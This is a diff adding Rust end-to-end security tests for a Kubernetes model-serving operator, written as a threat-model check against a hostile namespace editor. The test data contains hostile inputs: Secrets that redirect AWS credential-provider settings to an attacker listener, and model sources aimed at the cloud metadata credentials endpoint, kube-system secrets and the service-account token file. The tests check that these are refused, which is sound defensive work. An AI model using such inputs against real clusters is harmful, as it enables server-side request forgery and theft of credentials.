@@ -1,0 +1,319 @@
+//! A namespace editor as the adversary (docs/operations.md, "Threat model"):
+//! the operator never lends its identity or its network position to the
+//! storage settings and sources a tenant names. Storage Secrets are held to
+//! static keys; without keys a store is read anonymously; artifacts are
+//! fetched only by a validation pod in the tenant's namespace that holds no
+//! API token; cloud metadata endpoints are never fetched at all.
+
+use std::net::{IpAddr, SocketAddr};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use aimass_crds::v1alpha1::{Model, VersionPhase};
+use aimass_e2e::operator::Operator;
+use aimass_e2e::{TestNamespace, run, wait, wait_for};
+use anyhow::{Context, Result, ensure};
+use k8s_openapi::api::batch::v1::Job;
+use k8s_openapi::api::core::v1::Event;
+use kube::api::ListParams;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+const TIMEOUT: Duration = Duration::from_secs(120);
+
+/// One connection a [`Listener`] accepted: who and what it asked.
+#[derive(Clone, Debug)]
+struct Seen {
+    peer: IpAddr,
+    request: String,
+}
+
+/// A TCP listener standing in for an attacker's endpoint, a node's
+/// credential endpoint or an object store: it records every connection's
+/// peer and first bytes and answers `403`.
+struct Listener {
+    addr: SocketAddr,
+    seen: Arc<Mutex<Vec<Seen>>>,
+}
+
+impl Listener {
+    async fn start(ip: IpAddr, body: &'static str) -> Result<Self> {
+        let socket = tokio::net::TcpListener::bind((ip, 0)).await?;
+        let addr = socket.local_addr()?;
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let record = Arc::clone(&seen);
+        tokio::spawn(async move {
+            while let Ok((mut stream, peer)) = socket.accept().await {
+                let record = Arc::clone(&record);
+                tokio::spawn(async move {
+                    let mut buf = vec![0; 8192];
+                    let n = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buf))
+                        .await
+                        .map_or(0, |r| r.unwrap_or(0));
+                    let request = String::from_utf8_lossy(buf.get(..n).unwrap_or_default());
+                    if let Ok(mut seen) = record.lock() {
+                        seen.push(Seen {
+                            peer: peer.ip(),
+                            request: request.into_owned(),
+                        });
+                    }
+                    let status = if body.is_empty() {
+                        "403 Forbidden"
+                    } else {
+                        "200 OK"
+                    };
+                    let answer = format!(
+                        "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                        body.len()
+                    );
+                    let _ = stream.write_all(answer.as_bytes()).await;
+                });
+            }
+        });
+        Ok(Self { addr, seen })
+    }
+
+    fn seen(&self) -> Vec<Seen> {
+        self.seen.lock().map(|s| s.clone()).unwrap_or_default()
+    }
+}
+
+/// The `Ready` condition of a Model: (status, reason, message).
+fn ready(model: Option<&Model>) -> Option<(String, String, String)> {
+    let condition = model?
+        .status
+        .as_ref()?
+        .conditions
+        .iter()
+        .find(|c| c.type_ == "Ready")?
+        .clone();
+    Some((condition.status, condition.reason, condition.message))
+}
+
+fn refused(model: Option<&Model>) -> bool {
+    ready(model).is_some_and(|(status, reason, _)| status == "False" && reason == "InvalidSpec")
+}
+
+#[tokio::test]
+async fn storage_secrets_never_name_credential_providers_nor_fall_back_to_an_ambient_identity()
+-> Result<()> {
+    run("hostile-storage", |ns: Arc<TestNamespace>| async move {
+        let loopback = IpAddr::from([127, 0, 0, 1]);
+        // The editor's pod, waiting for the operator's token; and the node's
+        // credential endpoint, which the operator's environment names.
+        let attacker = Listener::start(loopback, "").await?;
+        let ambient = Listener::start(loopback, "").await?;
+        let s3 = Listener::start(loopback, "").await?;
+        let token = std::env::temp_dir().join(format!("aimass-e2e-operator-token-{}", ns.name));
+        std::fs::write(&token, "the-operators-own-token")?;
+        let ambient_uri = format!("http://{}/node-credentials", ambient.addr);
+        let token_file = token.display().to_string();
+        let operator = Operator::start_with_env(
+            &ns,
+            "a",
+            &[
+                ("AWS_CONTAINER_CREDENTIALS_FULL_URI", &ambient_uri),
+                ("AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", &token_file),
+                ("AWS_ACCESS_KEY_ID", "AKIA-OPERATOR"),
+                ("AWS_SECRET_ACCESS_KEY", "operator-secret"),
+            ],
+        )?;
+        ns.apply(&format!(
+            r#"
+apiVersion: v1
+kind: Secret
+metadata: {{name: steal-the-operators-token}}
+stringData:
+  AWS_CONTAINER_CREDENTIALS_FULL_URI: "http://{attacker}/creds"
+  AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE: /var/run/secrets/kubernetes.io/serviceaccount/token
+---
+apiVersion: v1
+kind: Secret
+metadata: {{name: endpoint-only}}
+stringData:
+  AWS_ENDPOINT: "http://{s3}"
+  AWS_ALLOW_HTTP: "true"
+  AWS_REGION: us-east-1
+---
+apiVersion: aimass.io/v1alpha1
+kind: Model
+metadata: {{name: hostile}}
+spec:
+  storage: {{prefix: "s3://registry/desk", secretRef: {{name: steal-the-operators-token}}}}
+  source: {{uri: "s3://registry/m.onnx"}}
+---
+apiVersion: aimass.io/v1alpha1
+kind: Model
+metadata: {{name: anonymous}}
+spec:
+  storage: {{prefix: "s3://registry/desk", secretRef: {{name: endpoint-only}}}}
+  source: {{uri: "s3://registry/m.onnx"}}
+"#,
+            attacker = attacker.addr,
+            s3 = s3.addr,
+        ))
+        .await?;
+
+        let models = ns.api::<Model>();
+        let hostile = wait_for(&models, "hostile", TIMEOUT, |m: Option<&Model>| refused(m)).await?;
+        let (_, _, message) = ready(Some(&hostile)).context("Ready")?;
+        ensure!(
+            message.contains("AWS_CONTAINER_CREDENTIALS_FULL_URI")
+                && message.contains("steal-the-operators-token"),
+            "the refusal names neither the key nor the Secret: {message}"
+        );
+        let events = ns
+            .api::<Event>()
+            .list(&ListParams::default().fields("involvedObject.name=hostile"))
+            .await?;
+        ensure!(
+            events
+                .items
+                .iter()
+                .any(|e| e.type_.as_deref() == Some("Warning")
+                    && e.reason.as_deref() == Some("InvalidSpec")),
+            "no Warning InvalidSpec Event: {:?}",
+            events.items.iter().map(|e| &e.reason).collect::<Vec<_>>()
+        );
+
+        // The endpoint-only Secret reads the store anonymously: requests
+        // arrive, and none is signed with anybody's key.
+        wait(
+            TIMEOUT,
+            "the operator to list the anonymous registry",
+            || async { Ok(!s3.seen().is_empty()) },
+        )
+        .await?;
+        // Give any fallback time to show itself.
+        tokio::time::sleep(Duration::from_secs(5)).await;
+        for seen in s3.seen() {
+            let request = seen.request.to_ascii_lowercase();
+            ensure!(
+                !request.contains("authorization:") && !request.contains("akia-operator"),
+                "a signed request reached the tenant's endpoint: {}",
+                seen.request
+            );
+        }
+        ensure!(
+            attacker.seen().is_empty(),
+            "the tenant's credential URL was called: {:?}",
+            attacker.seen()
+        );
+        ensure!(
+            ambient.seen().is_empty(),
+            "the operator's ambient credentials were used: {:?}",
+            ambient.seen()
+        );
+        ensure!(
+            !std::fs::read_to_string(&operator.log)?.contains("the-operators-own-token"),
+            "the operator's token file was read into its log"
+        );
+        let _ = std::fs::remove_file(token);
+        Ok(())
+    })
+    .await
+}
+
+/// The host's address on the cluster bridge, where pods reach the host.
+fn bridge_address() -> Result<IpAddr> {
+    let bridge = std::env::var("AIMASS_BRIDGE").unwrap_or_else(|_| "aimass0".into());
+    let out = std::process::Command::new("ip")
+        .args(["-4", "-o", "addr", "show", "dev", &bridge])
+        .output()?;
+    let text = String::from_utf8_lossy(&out.stdout);
+    let cidr = text
+        .split_whitespace()
+        .skip_while(|w| *w != "inet")
+        .nth(1)
+        .with_context(|| format!("no IPv4 address on {bridge}: {text}"))?;
+    Ok(cidr.split('/').next().unwrap_or_default().parse()?)
+}
+
+/// The version a Model recorded for its source, once it has one.
+fn first_version(model: Option<&Model>) -> bool {
+    model
+        .and_then(|m| m.status.as_ref())
+        .is_some_and(|s| !s.versions.is_empty())
+}
+
+#[tokio::test]
+async fn sources_are_fetched_only_by_a_tenant_pod_without_credentials() -> Result<()> {
+    run("hostile-source", |ns: Arc<TestNamespace>| async move {
+        let host = bridge_address()?;
+        // An internal endpoint the editor wants the operator to call (the
+        // API server, another namespace's service): it answers bytes that
+        // are no model.
+        let internal = Listener::start(host, "secrets of another desk").await?;
+        let operator = Operator::start(&ns, "a")?;
+        ns.apply(&format!(
+            r#"
+apiVersion: aimass.io/v1alpha1
+kind: Model
+metadata: {{name: internal}}
+spec:
+  source: {{uri: "http://{internal}/api/v1/namespaces/kube-system/secrets"}}
+---
+apiVersion: aimass.io/v1alpha1
+kind: Model
+metadata: {{name: token-file}}
+spec:
+  source: {{uri: "file:///var/run/secrets/kubernetes.io/serviceaccount/token"}}
+---
+apiVersion: aimass.io/v1alpha1
+kind: Model
+metadata: {{name: metadata}}
+spec:
+  source: {{uri: "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}}
+"#,
+            internal = internal.addr,
+        ))
+        .await?;
+        let models = ns.api::<Model>();
+
+        // The metadata endpoint is refused before anything runs.
+        let metadata =
+            wait_for(&models, "metadata", TIMEOUT, |m: Option<&Model>| refused(m)).await?;
+        let (_, _, message) = ready(Some(&metadata)).context("Ready")?;
+        ensure!(message.contains("metadata endpoint"), "{message}");
+
+        for name in ["internal", "token-file"] {
+            let model =
+                wait_for(&models, name, TIMEOUT, |m: Option<&Model>| first_version(m)).await?;
+            let version = &model.status.context("status")?.versions[0];
+            ensure!(
+                version.phase == VersionPhase::Rejected
+                    && version.reason.as_deref() == Some("ArtifactInvalid"),
+                "{name}: {version:?}"
+            );
+            let message = version.message.clone().unwrap_or_default();
+            ensure!(
+                !message.contains("eyJ") && !message.contains("secrets of another desk"),
+                "{name}: the refusal leaks what was read: {message}"
+            );
+        }
+        // Only a pod on the cluster network fetched the internal URL, and
+        // it carried no credentials.
+        let seen = internal.seen();
+        ensure!(!seen.is_empty(), "nothing fetched the internal URL");
+        for s in &seen {
+            ensure!(
+                s.peer != host && !s.peer.is_loopback(),
+                "the internal URL was fetched from the host (the operator): {s:?}"
+            );
+            ensure!(
+                !s.request.to_ascii_lowercase().contains("authorization:"),
+                "the fetch carried credentials: {}",
+                s.request
+            );
+        }
+        // No validation pod was started for the metadata endpoint, and the
+        // finished ones are gone.
+        let jobs = ns
+            .api::<Job>()
+            .list(&ListParams::default().labels("aimass.io/model=metadata"))
+            .await?;
+        ensure!(jobs.items.is_empty(), "a Job ran for the metadata endpoint");
+        drop(operator);
+        Ok(())
+    })
+    .await
+}
